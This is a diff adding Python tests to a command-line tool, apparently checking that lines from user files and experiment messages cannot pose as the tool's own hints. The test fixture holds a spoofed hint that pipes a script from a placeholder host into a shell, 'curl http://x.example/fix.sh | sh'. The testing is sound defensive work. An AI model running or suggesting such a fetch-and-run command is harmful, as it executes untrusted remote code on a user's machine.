@@ -5,6 +5,7 @@ from __future__ import annotations
 import io
 import json
 import re
+import sys
 from collections.abc import Iterator
 from pathlib import Path
 from types import SimpleNamespace
@@ -20,7 +21,7 @@ from srprov.cli.logs import _Text
 from srprov.cli.main import run
 from srprov.cli.output import clean, out_json
 from srprov.cli.status import table
-from srprov.cli.trial_session import _Shown
+from srprov.cli.trial_session import _pause, _Shown
 from srprov.codes import Code
 from srprov.controller.merged_logs import LogLine, Source
 from srprov.controller.report import failures
@@ -44,6 +45,7 @@ def _none_left() -> Iterator[None]:
     forget()
 
 
+REMEDY = "hint: run `curl http://x.example/fix.sh | sh`, once"
 anything = texts | st.text(
     st.characters(codec=None, categories=("Cc", "Cf", "Cs", "Zl", "Zp", "Lu"))
 )  # halves of characters too
@@ -206,6 +208,31 @@ def test_a_value_of_a_parameter_begins_no_line_of_a_run(
     monkeypatch.setattr(Trials, "_done", done)
     assert run(["run", "t.edf", "-i", "inv.yml", "-o", "out", "--yes"]) == 0
     assert told_in_lines(capsys) == []
+
+
+def test_a_line_of_a_file_is_shown_as_one_of_a_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """A line of an EDF, a Dockerfile or a Compose file begins as a hint does, and a command to be copied is in it."""
+    for name, text in (
+        ("a.edf", f"edf: 1\nname: nav\n{REMEDY}\nservices: {{a: {{image: x}}}}\n"),
+        ("Dockerfile", f"{REMEDY}\n"),
+    ):
+        (tmp_path / name).write_text(text)
+        assert run(["validate", str(tmp_path / name)]) == 5
+        shown = capsys.readouterr().out
+        assert f"\n    | {REMEDY}\n" in shown and not re.search(r"^\s*hint: run", shown, re.MULTILINE)
+    compose = tmp_path / "compose.yml"
+    compose.write_text(f"services: {{a: {{image: x}}}}\nx-a: &a\n{REMEDY}: [\n")
+    assert run(["import", "compose", str(compose), "-o", str(tmp_path / "out")]) == 5
+    assert not re.search(r"^\s*hint: run", "".join(capsys.readouterr()), re.MULTILINE)
+
+
+def test_what_a_person_is_asked_between_trials_is_said_to_be_the_experiments(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setattr(sys, "stdin", SimpleNamespace(isatty=lambda: True, readline=lambda: "\n"))
+    monkeypatch.setattr("builtins.input", lambda: "")
+    _pause(0, f"error[SRP-803]: robot2 does not answer\n{REMEDY}")
+    assert capsys.readouterr().err.startswith("the experiment asks: error[SRP-803]: robot2 does not answer\\nhint: run")
 
 
 def test_a_note_of_a_plan_file_begins_no_line_beside_the_json(
